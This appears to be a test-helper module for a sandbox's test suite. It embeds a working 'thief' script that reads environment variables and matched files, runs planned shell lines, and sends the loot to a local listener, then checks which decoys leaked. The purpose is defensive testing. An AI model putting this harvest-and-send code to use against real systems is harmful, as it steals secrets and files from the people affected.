# SPDX-License-Identifier: MIT
"""A thief in the project, and the one whom it reports to.

The thief reads what its plan says (roots to walk, files, its environment, what /proc shows of processes), and gives
all of it away twice: to a file in the project, and to a listener on 127.0.0.1. What was stolen is judged by the
decoys in these two, never by what the thief says.
"""
import contextlib
import json
import os
import secrets
import socket
import threading

THIEF = r'''
import glob, json, os, re, socket, stat
here = os.path.dirname(os.path.abspath(__file__))
plan = json.load(open(os.path.join(here, "plan.json")))
loot = open(os.path.join(here, "loot"), "wb")

def give(name, data):
    loot.write(name.encode(errors="surrogateescape") + b"\0" + data + b"\n")

def take(path, limit=300_000):
    try:
        fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK | os.O_NOCTTY)
        with open(fd, "rb", buffering=0) as file:
            if stat.S_ISREG(os.fstat(fd).st_mode):
                give(path, file.read(limit))
    except OSError:
        pass

if plan["environment"]:
    give("environment", "\n".join(f"{k}={v}" for k, v in os.environ.items()).encode(errors="surrogateescape"))
for pattern in plan["files"]:
    for path in sorted(glob.glob(os.path.expanduser(pattern), recursive=True)) or [os.path.expanduser(pattern)]:
        take(path)
for root in plan["roots"]:
    left, most, wanted = root["count"], root["size"], re.compile(root["names"])
    for directory, directories, files in os.walk(os.path.expanduser(root["top"])):
        for name in files:
            path = os.path.join(directory, name)
            if left and not path.startswith(here) and wanted.search(name):
                with_size = os.lstat(path) if os.path.lexists(path) else None
                if with_size and with_size.st_size <= most:
                    left -= 1
                    take(path, most)
for line in plan["run"]:
    os.system(line)
loot.close()
try:
    with socket.create_connection(("127.0.0.1", plan["port"]), 3) as s:
        s.sendall(open(os.path.join(here, "loot"), "rb").read())
except OSError:
    pass
open(os.path.join(here, "done"), "w").close()
'''  # fmt: skip


def root(top, count=100_000, size=300_000, names=""):
    return {"top": top, "count": count, "size": size, "names": names}


class Collector:
    """Listens on 127.0.0.1 while the block runs."""

    def __init__(self, h, directory):
        self.h, self.directory, self.heard = h, directory, bytearray()
        self._server = socket.create_server(("127.0.0.1", 0))
        self._server.settimeout(0.2)
        self._over = threading.Event()
        self._thread = threading.Thread(target=self._listen)

    def _listen(self):
        while not self._over.is_set():
            with contextlib.suppress(OSError):
                s, _ = self._server.accept()
                with s:
                    s.settimeout(5)
                    while data := s.recv(1 << 20):
                        self.heard += data

    def __enter__(self):
        self._thread.start()
        return self

    def __exit__(self, *_):
        self._over.set()
        self._thread.join()
        self._server.close()

    def plant(self, **plan):
        """Writes the thief and its plan; the path of the program."""
        plan = {"environment": False, "files": [], "roots": [], "run": [], "port": self._server.getsockname()[1], **plan}
        self.h.write(f"{self.directory}/plan.json", json.dumps(plan))
        return self.h.write(f"{self.directory}/thief.py", THIEF)

    def stolen(self, run):
        """The names of the decoys that the thief gave away when `run` started it; `by_file` and `by_network` say how."""
        for name in ("loot", "done"):
            with contextlib.suppress(FileNotFoundError):
                os.unlink(self.h.path(f"{self.directory}/{name}"))
        self.heard.clear()
        r = run()
        assert self.h.exists(f"{self.directory}/done"), r
        self._wait()
        self.by_file = set(self.h.decoys.found_in(self.h.read(f"{self.directory}/loot")))
        self.by_network = set(self.h.decoys.found_in(bytes(self.heard).decode(errors="surrogateescape")))
        return self.by_file | self.by_network

    def _wait(self):
        """Until all that was sent so far is read: callers are served one after the other."""
        end = secrets.token_bytes(16)
        with socket.create_connection(self._server.getsockname(), 5) as s:
            s.sendall(end)
            s.shutdown(socket.SHUT_WR)
            s.recv(1)  # closed by the listener
        assert self.heard.endswith(end)
